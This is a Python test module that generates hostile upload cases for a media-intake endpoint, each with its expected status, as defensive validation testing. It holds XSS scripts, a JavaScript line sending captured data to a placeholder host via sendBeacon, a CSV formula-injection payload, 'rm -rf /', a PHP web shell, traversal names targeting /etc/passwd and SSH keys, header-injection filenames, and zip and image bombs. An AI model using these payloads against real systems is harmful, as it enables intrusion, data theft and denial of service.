"""The bad-input corpus: upload cases generated from a few valid files and many ways to
break them. Each case states what must happen: accepted (201, the file stored under its
sniffed type) or refused with one of the given 4xx statuses (and a reason).

Byte sizes stay small so the whole corpus runs in seconds; the limits are exercised with an
app whose per-file limit is 256 KiB (see test_bad_inputs.py).
"""
from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass, field
from typing import Optional, Sequence

from tests.hostile.support import Media

ACCEPT = "accept"
ACCEPT_OR_REFUSE = "accept or refuse"  # either outcome is right, as long as it is clean
PER_FILE_LIMIT = 256 * 1024  # MAX_UPLOAD_BYTES of the corpus app


@dataclass
class Case:
    name: str
    group: str
    files: Sequence[tuple[str, bytes, str]] = ()  # (file name, bytes, claimed content type)
    form: dict = field(default_factory=dict)
    expect: object = ACCEPT  # ACCEPT or a tuple of acceptable refusal statuses
    code: Optional[str] = None  # expected error code of a refusal, when one is certain
    raw_body: Optional[bytes] = None  # sent as is, with raw_type as Content-Type
    raw_type: str = ""
    headers: dict = field(default_factory=dict)


_counter = [1000]


def _n() -> int:
    _counter[0] += 1
    return _counter[0]


def wav() -> bytes:
    return Media.wav(_n())


def png() -> bytes:
    return Media.image("PNG", _n())


def jpeg() -> bytes:
    return Media.image("JPEG", _n())


def webp() -> bytes:
    return Media.image("WEBP", _n())


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_with_size(width: int, height: int, mode: int = 0, body: Optional[bytes] = None) -> bytes:
    """A PNG whose header claims width x height (grey, 8 bit unless mode says otherwise)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, mode, 0, 0, 0)
    if body is None:
        body = zlib.compress(b"\x00" * 64)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def png_zlib_bomb(width: int, height: int) -> bytes:
    """A real PNG of width x height zeros: tiny on disk, huge when decoded."""
    comp = zlib.compressobj(9)
    row = b"\x00" + b"\x00" * width
    parts = [comp.compress(row * 256) for _ in range(height // 256)]
    parts.append(comp.flush())
    return png_with_size(width, height, body=b"".join(parts))


def jpeg_with_size(width: int, height: int) -> bytes:
    """A JPEG whose SOF0 claims width x height, followed by a few bytes of nothing."""
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + sof + \
        b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\x00" * 32 + b"\xff\xd9"


def webp_with_size(width: int, height: int) -> bytes:
    """VP8X extended WebP header claiming a canvas of width x height."""
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\x00\x00\x00\x00" + \
        (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBP" + vp8x
    return b"RIFF" + struct.pack("<I", len(body)) + body


def zip_bomb(megabytes: int, name: str = "zeros.bin") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        with z.open(name, "w") as fh:
            block = b"\x00" * (1 << 20)
            for _ in range(megabytes):
                fh.write(block)
    return buf.getvalue()


def nested_zip(depth: int) -> bytes:
    data = zip_bomb(1)
    for i in range(depth):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
            for j in range(4):
                z.writestr(f"layer{i}-{j}.zip", data)
        data = buf.getvalue()
    return data


LYING_TYPES = ("application/x-msdownload", "text/html", "application/octet-stream", "image/png",
               "audio/mpeg", "")

NOT_MEDIA = {
    "html": b"<!doctype html><html><script>alert(document.cookie)</script></html>",
    "svg_script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "javascript": b"fetch('/api/captures').then(r=>r.text()).then(t=>navigator.sendBeacon('//x',t))",
    "exe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00",
    "elf": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56,
    "pdf": b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF",
    "gif": b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,"
           b"\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;",
    "bmp": b"BM" + struct.pack("<IHHI", 58, 0, 0, 54) + struct.pack("<IiiHHIIiiII", 40, 1, 1, 1, 24, 0, 4, 0, 0, 0, 0)
           + b"\x00\x00\xff\x00",
    "tiff": b"II*\x00\x08\x00\x00\x00" + b"\x00" * 16,
    "text": "这是一段文字，不是录音。".encode("utf-8"),
    "csv_formula": b"=cmd|' /C calc'!A0,+1,-1,@SUM(A1)\n",
    "gzip": zlib.compress(b"x" * 10000)[:2] + b"\x1f\x8b" + b"\x00" * 20,
    "shell": b"#!/bin/sh\nrm -rf /\n",
    "php": b"<?php system($_GET['c']); ?>",
    "mkv_not_webm": b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\x82\x88matroska" + b"\x00" * 32,
}

AUDIO_MAGIC = {
    "wav": b"RIFF\x24\x00\x00\x00WAVEfmt ",
    "flac": b"fLaC\x00\x00\x00\x22",
    "ogg": b"OggS\x00\x02\x00\x00\x00\x00\x00\x00\x00\x00",
    "id3": b"ID3\x03\x00\x00\x00\x00\x00\x0a" + b"\x00" * 10,
    "amr": b"#!AMR\n",
    "amr_wb": b"#!AMR-WB\n",
    "m4a": b"\x00\x00\x00\x18ftypM4A \x00\x00\x00\x00M4A mp42",
    "webm": b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\x82\x84webm",
    "adts": b"\xff\xf1\x50\x80\x02\x1f\xfc",
    "mp3_frame": b"\xff\xfb\x90\x64",
}

TRAVERSAL_NAMES = (
    "../../etc/passwd", "..\\..\\windows\\system32\\config\\sam", "/etc/passwd", "a/../../../b.png",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "....//....//etc/passwd", "..", ".", "~/.ssh/authorized_keys",
    "C:\\boot.ini", "\\\\server\\share\\x.png", "originals/ab/cd/" + "0" * 64,
)

CONTROL_NAMES = (
    "a\x00b.png", "line\r\nSet-Cookie: pwned=1.png", "tab\tname.png", "bell\x07.png", "esc\x1b[31mred.png",
    "\u202egnp.exe", "del\x7f.png", "nl\nonly.png", "\ufeffbom.png", "zero\u200bwidth.png",
)

LONG_NAMES = (
    "走访记录" * 75 + ".png",  # 300 characters and then some
    "南" * 300,
    "x" * 5000 + ".jpg",
    "😀" * 120 + ".png",
    "日记 " * 100 + ".jpg",
    "'\"<>&;|`$(){}[]*?.png",
    "<script>alert(1)</script>.png",
    "=HYPERLINK(\"http://x\",\"y\").png",
)


def build() -> list[Case]:
    cases: list[Case] = []
    add = cases.append

    # 1. Valid content under lying names and content types: accepted, typed by content.
    makers = {"wav": wav, "png": png, "jpeg": jpeg, "webp": webp,
              "flac": lambda: Media.encoded("flac", _n()), "ogg": lambda: Media.encoded("ogg", _n()),
              "mp3": lambda: Media.encoded("mp3", _n()), "m4a": lambda: Media.encoded("m4a", _n())}
    for kind, make in makers.items():
        for claimed in LYING_TYPES:
            add(Case(f"lying type: {kind} sent as {claimed or '(none)'}", "lying type",
                     [(f"upload.{'exe' if 'msdownload' in claimed else 'txt'}", make(), claimed)]))

    # 2. Not media at all, whatever it claims to be.
    for label, data in NOT_MEDIA.items():
        for claimed, name in (("image/jpeg", "photo.jpg"), ("audio/mp4", "memo.m4a"), ("text/plain", "x.txt")):
            add(Case(f"not media: {label} as {claimed}", "wrong type", [(name, data, claimed)],
                     expect=(415,), code="unknown_type"))

    # 3. Zero bytes and whitespace.
    for name in ("memo.wav", "page.png", "memo.m4a", "noext"):
        add(Case(f"zero bytes: {name}", "zero bytes", [(name, b"", "application/octet-stream")],
                 expect=(400,), code="empty"))
    add(Case("one space", "zero bytes", [("space.wav", b" ", "audio/wav")], expect=(415,)))
    add(Case("one NUL", "zero bytes", [("nul.png", b"\x00", "image/png")], expect=(415,)))
    add(Case("no file field", "zero bytes", [], expect=(400,), code="no_files"))
    add(Case("file with empty name", "zero bytes", [("", wav(), "audio/wav")], expect=(400,), code="no_files"))

    # 4. Truncated and corrupt audio.
    for fmt, make in (("wav", wav), ("flac", lambda: Media.encoded("flac", _n())),
                      ("ogg", lambda: Media.encoded("ogg", _n())), ("mp3", lambda: Media.encoded("mp3", _n())),
                      ("m4a", lambda: Media.encoded("m4a", _n()))):
        data = make()
        for cut in (4, 12, 40, len(data) // 3):
            # A cut-off recording may still hold whole frames; then keeping it is right.
            add(Case(f"truncated {fmt} at {cut} of {len(data)} bytes", "truncated audio",
                     [(f"memo.{fmt}", data[:cut], "audio/" + fmt)], expect=(400, 415) if cut < 100 else ACCEPT_OR_REFUSE))
    for label, magic in AUDIO_MAGIC.items():
        for size in (0, 64, 4096):
            # AMR has no sync words: any bytes after its magic decode as (noise) frames.
            add(Case(f"{label} magic + {size} garbage bytes", "corrupt audio",
                     [(f"memo.{label}", magic + bytes((i * 7 + 3) % 251 for i in range(size)), "audio/mpeg")],
                     expect=ACCEPT_OR_REFUSE if label.startswith("amr") and size else (400, 415)))
    header_only = wav()[:44]
    add(Case("wav header, no samples", "corrupt audio", [("memo.wav", header_only, "audio/wav")], expect=(400,)))
    add(Case("wav with a video-only ogg", "corrupt audio",
             [("memo.ogg", b"OggS\x00\x02" + b"\x00" * 20 + b"\x01\x1e\x01vorbis" + b"\x00" * 40, "audio/ogg")],
             expect=(400,)))

    # 5. Truncated and corrupt images.
    for fmt, make in (("png", png), ("jpeg", jpeg), ("webp", webp)):
        data = make()
        for cut in (8, 16, 30, len(data) // 2, len(data) - 3):
            add(Case(f"truncated {fmt} at {cut} of {len(data)} bytes", "truncated image",
                     [(f"page.{fmt}", data[:cut], "image/" + fmt)], expect=(400, 415)))
    good = png()
    add(Case("png with a bad CRC", "corrupt image", [("page.png", good[:29] + b"\x00\x00\x00\x00" + good[33:],
                                                      "image/png")], expect=(400,)))
    # Intake reads headers only (cheap for 12-megapixel photos); pixel data that does not
    # decode fails the recognition job with its reason, the original kept.
    add(Case("png with garbage IDAT", "corrupt image",
             [("page.png", png_with_size(32, 32, body=b"not zlib at all" * 4), "image/png")], expect=ACCEPT_OR_REFUSE))
    add(Case("png of zero width", "corrupt image", [("page.png", png_with_size(0, 10), "image/png")],
             expect=(400,)))
    add(Case("jpeg header only", "corrupt image", [("page.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", "image/jpeg")],
             expect=(400,)))
    add(Case("heic brand with garbage", "corrupt image",
             [("page.heic", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\xaa" * 200, "image/heic")],
             expect=(400,)))
    add(Case("jpeg bytes reversed", "corrupt image", [("page.jpg", jpeg()[::-1], "image/jpeg")], expect=(415,)))

    # 6. Image bombs: dimensions far past the pixel limit, refused from the header.
    for w, h in ((100_000, 100_000), (65_535, 65_535), (30_000, 30_000), (1, 2_000_000_000), (20_000, 5_000)):
        add(Case(f"png claiming {w}x{h}", "image bomb", [("bomb.png", png_with_size(w, h), "image/png")],
                 expect=(400,)))
    add(Case("png zlib bomb 12000x12000 of zeros", "image bomb",
             [("bomb.png", png_zlib_bomb(12_000, 12_000), "image/png")], expect=(400, 413)))
    for w, h in ((65_000, 65_000), (20_000, 20_000)):
        add(Case(f"jpeg claiming {w}x{h}", "image bomb", [("bomb.jpg", jpeg_with_size(w, h), "image/jpeg")],
                 expect=(400,)))
    add(Case("webp claiming 16384x16384", "image bomb", [("bomb.webp", webp_with_size(16384, 16384), "image/webp")],
             expect=(400,)))

    # 7. Archive bombs: never unpacked, refused by type.
    bomb = zip_bomb(64)
    for claimed, name in (("application/zip", "diary.zip"), ("audio/mp4", "memo.m4a"), ("image/png", "page.png")):
        add(Case(f"zip bomb (64 MB of zeros) as {name}", "archive bomb", [(name, bomb, claimed)], expect=(415,)))
    add(Case("nested zip bomb", "archive bomb", [("nested.zip", nested_zip(2), "application/zip")], expect=(415, 413)))
    add(Case("gzip stream named .wav", "archive bomb", [("memo.wav", b"\x1f\x8b\x08\x00" + zlib.compress(b"\x00" * 10**6),
                                                         "audio/wav")], expect=(415,)))

    # 8. Polyglots: what decodes as media is media (kept under its sniffed type).
    zipped = zip_bomb(1)
    add(Case("png followed by a zip", "polyglot", [("page.png", png() + zipped, "image/png")]))
    add(Case("jpeg followed by html", "polyglot",
             [("page.jpg", jpeg() + b"<html><script>alert(1)</script></html>", "text/html")]))
    add(Case("wav followed by a script", "polyglot",
             [("memo.wav", wav() + b"<script>alert(1)</script>", "audio/wav")]))
    add(Case("png magic then html", "polyglot",
             [("page.png", b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script>", "image/png")], expect=(400,)))
    add(Case("gif magic with a jpeg inside", "polyglot", [("x.gif", b"GIF89a" + jpeg(), "image/gif")], expect=(415,)))
    add(Case("html then a png", "polyglot", [("page.png", b"<html>" + png(), "image/png")], expect=(415,)))
    add(Case("pdf header then a jpeg", "polyglot", [("page.jpg", b"%PDF-1.4\n" + jpeg(), "image/jpeg")],
             expect=(415,)))

    # 9. File names: traversal, control characters, very long, markup.
    for name in TRAVERSAL_NAMES:
        add(Case(f"name {name!r}", "path traversal", [(name, png(), "image/png")]))
    for name in CONTROL_NAMES:
        add(Case(f"name {name!r}", "control characters", [(name, png(), "image/png")]))
    for name in LONG_NAMES:
        add(Case(f"name of {len(name)} chars: {name[:20]!r}", "long or odd name", [(name, png(), "image/png")]))

    # 10. Several files: mixing, too many, the same photo twice.
    add(Case("audio and photo together", "several files",
             [("memo.wav", wav(), "audio/wav"), ("page.png", png(), "image/png")], expect=(400,), code="mixed"))
    add(Case("two recordings", "several files",
             [("a.wav", wav(), "audio/wav"), ("b.wav", wav(), "audio/wav")], expect=(400,), code="too_many_audio"))
    add(Case("21 pages", "several files", [(f"p{i}.png", png(), "image/png") for i in range(21)],
             expect=(400,), code="too_many_pages"))
    same = png()
    add(Case("the same photo twice in one upload", "several files",
             [("a.png", same, "image/png"), ("b.png", same, "image/png")], expect=(400,), code="repeated_file"))
    add(Case("three good pages and a broken one", "several files",
             [("p1.png", png(), "image/png"), ("p2.jpg", jpeg(), "image/jpeg"), ("p3.png", png(), "image/png"),
              ("p4.png", png()[:20], "image/png")], expect=(400,)))
    add(Case("twenty pages", "several files", [(f"p{i}.jpg", jpeg(), "image/jpeg") for i in range(20)]))

    # 11. Size limits.
    big_wav = Media.wav(_n(), seconds=PER_FILE_LIMIT / 32000 + 0.5)
    add(Case("one file over the per-file limit", "oversize", [("long.wav", big_wav, "audio/wav")], expect=(413,)))
    add(Case("body over the request limit", "oversize",
             [(f"p{i}.png", png() + b"\x00" * (PER_FILE_LIMIT - 200), "image/png") for i in range(10)], expect=(413,)))
    add(Case("file just under the limit", "oversize",
             [("edge.png", png() + b"\x00" * (PER_FILE_LIMIT - 2000), "image/png")]))

    # 12. Form fields beside the file.
    for value, ok in (("2024-02-30", False), ("2024-13-01", False), ("yesterday", False), ("<script>", False),
                      ("0000-00-00", False), ("9" * 5000, False), ("2024-02-29", True), ("2023-2-1", False),
                      ("２０２４－０１－０１", False), ("2024-01-01\x00", False), ("", True), ("0001-01-01", False),
                      ("2990-01-01", False), ("20240101", True)):
        add(Case(f"visit_date {value[:30]!r}", "form fields", [("memo.wav", wav(), "audio/wav")],
                 form={"visit_date": value}, expect=ACCEPT if ok else (400,), code=None if ok else "bad_date"))
    for value, ok in (("not a time", False), ("2024-01-01T25:00", False), ("2024-01-01T08:00:00+08:00", True),
                      ("2024-01-01T08:00:00Z", True), ("0001-01-01T00:00:00+01:00", False),
                      ("9999-12-31T23:59:59-01:00", False), ("2024-01-01T00:00:00+25:00", False), ("1" * 3000, False),
                      ("1999-12-31T23:00:00", False), ("2990-01-01T00:00:00", False)):
        add(Case(f"captured_at {value[:30]!r}", "form fields", [("memo.wav", wav(), "audio/wav")],
                 form={"captured_at": value}, expect=ACCEPT if ok else (400,) if ok is False else ACCEPT_OR_REFUSE))

    # 13. Bodies that are not a proper upload.
    add(Case("JSON body", "malformed body", raw_body=b'{"file": "AAAA"}', raw_type="application/json",
             expect=(400,), code="no_files"))
    add(Case("plain text body", "malformed body", raw_body=b"hello", raw_type="text/plain", expect=(400,)))
    add(Case("multipart without boundary", "malformed body", raw_body=b"--x\r\n\r\n", raw_type="multipart/form-data",
             expect=(400,)))
    png_bytes = png()
    whole = (b"--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"p.png\"\r\n"
             b"Content-Type: image/png\r\n\r\n" + png_bytes + b"\r\n--B--\r\n")
    add(Case("multipart cut in the middle of the file", "malformed body", raw_body=whole[:len(whole) // 2],
             raw_type="multipart/form-data; boundary=B", expect=(400,)))
    add(Case("multipart without the closing boundary", "malformed body", raw_body=whole[:-8],
             raw_type="multipart/form-data; boundary=B", expect=(400,)))
    add(Case("multipart with a wrong boundary", "malformed body", raw_body=whole,
             raw_type="multipart/form-data; boundary=C", expect=(400,)))
    add(Case("multipart header garbage", "malformed body", raw_body=b"--B\r\n\x00\x01\x02\r\n\r\n--B--\r\n",
             raw_type="multipart/form-data; boundary=B", expect=(400,)))
    add(Case("urlencoded form", "malformed body", raw_body=b"file=%00%01&visit_date=2024-01-01",
             raw_type="application/x-www-form-urlencoded", expect=(400,)))
    return cases

